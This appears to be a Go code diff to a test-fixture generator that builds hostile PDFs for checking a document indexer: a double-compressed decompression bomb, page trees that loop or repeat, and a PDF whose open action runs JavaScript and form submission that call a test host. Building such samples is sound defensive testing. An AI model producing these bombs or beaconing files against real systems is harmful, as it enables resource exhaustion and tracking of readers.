@@ -19,31 +19,31 @@ func stream(dict string, data []byte) string {
 }
 
 // pdf writes them with a table of where they are.
-func (o objects) pdf(trailer string) []byte {
+func (o *objects) pdf(trailer string) []byte {
 	var b bytes.Buffer
 	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
 	var at []int
-	for n, s := range o {
+	for n, s := range *o {
 		at = append(at, b.Len())
 		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", n+1, s)
 	}
 	xref := b.Len()
-	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(o)+1)
+	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(*o)+1)
 	for _, n := range at {
 		fmt.Fprintf(&b, "%010d 00000 n \n", n)
 	}
-	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n", len(o)+1, trailer, xref)
+	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n", len(*o)+1, trailer, xref)
 	return b.Bytes()
 }
 
 // paged is a PDF of one page with this content and these resources beside the
 // usual font; before are objects that they name, from 3.
-func paged(content, resources, page string, before ...string) objects {
-	o := objects{"<</Type/Catalog/Pages 2 0 R>>", ""}
-	o = append(o, before...)
+func paged(content, resources, page string, before ...string) *objects {
+	o := &objects{"<</Type/Catalog/Pages 2 0 R>>", ""}
+	*o = append(*o, before...)
 	c := o.add(stream("", []byte(content)))
 	p := o.add(fmt.Sprintf("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents %d 0 R/Resources<</Font<</F <</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>%s>>%s>>", c, resources, page))
-	o[1] = fmt.Sprintf("<</Type/Pages/Count 1/Kids[%d 0 R]>>", p)
+	(*o)[1] = fmt.Sprintf("<</Type/Pages/Count 1/Kids[%d 0 R]>>", p)
 	return o
 }
 
@@ -65,12 +65,12 @@ func pdfs() []File {
 		{Class: "PDF stream packed twice, gigabytes", Name: "pdf/bomb.pdf", Want: some, Make: fixed(func() []byte {
 			bomb := deflated(zlibZeros(1024))
 			o := paged(shown, "", "")
-			o[2] = stream("/Filter[/FlateDecode/FlateDecode]", bomb)
+			(*o)[2] = stream("/Filter[/FlateDecode/FlateDecode]", bomb)
 			return o.pdf("")
 		})},
 		{Class: "page tree that is its own child", Name: "pdf/kids.pdf", Want: some, Make: fixed(func() []byte {
 			o := paged("BT /F 12 Tf (again) Tj ET", "", "")
-			o[1] = "<</Type/Pages/Count 2000000000/Kids[2 0 R 4 0 R 2 0 R]>>"
+			(*o)[1] = "<</Type/Pages/Count 2000000000/Kids[2 0 R 4 0 R 2 0 R]>>"
 			return o.pdf("")
 		})},
 		{Class: "cross-reference table that precedes itself", Name: "pdf/prev.pdf", Want: some, Make: fixed(func() []byte {
@@ -84,7 +84,7 @@ func pdfs() []File {
 		})},
 		{Class: "PDF that runs a script and calls home", Name: "pdf/script.pdf", Want: []string{"indexed", "partial corrupt"}, Finds: "readable contract", Make: func(w World) []byte {
 			o := paged(shown, "", "/AA<</O<</S/URI/URI(http://"+w.Address+"/open)>>>>")
-			o[0] = "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://" + w.Address + "'\\))>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\('http://" + w.Address + "'\\))>>]>>>>>>"
+			(*o)[0] = "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://" + w.Address + "'\\))>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\('http://" + w.Address + "'\\))>>]>>>>>>"
 			return o.pdf("")
 		}},
 		{Class: "file that is a page elsewhere", Name: "pdf/remote.pdf", Want: some, Make: func(w World) []byte {
@@ -98,7 +98,7 @@ func pdfs() []File {
 		})},
 		{Class: "20,000 references to one page", Name: "pdf/pages.pdf", Want: some, Make: fixed(func() []byte {
 			o := paged("BT /F 12 Tf (again) Tj ET", "", "")
-			o[1] = "<</Type/Pages/Count 20000/Kids[" + repeat("4 0 R ", 20_000) + "]>>"
+			(*o)[1] = "<</Type/Pages/Count 20000/Kids[" + repeat("4 0 R ", 20_000) + "]>>"
 			return o.pdf("")
 		})},
 		{Class: "forms that call each other, 3^30 times", Name: "pdf/forms.pdf", Want: some, Make: fixed(func() []byte {
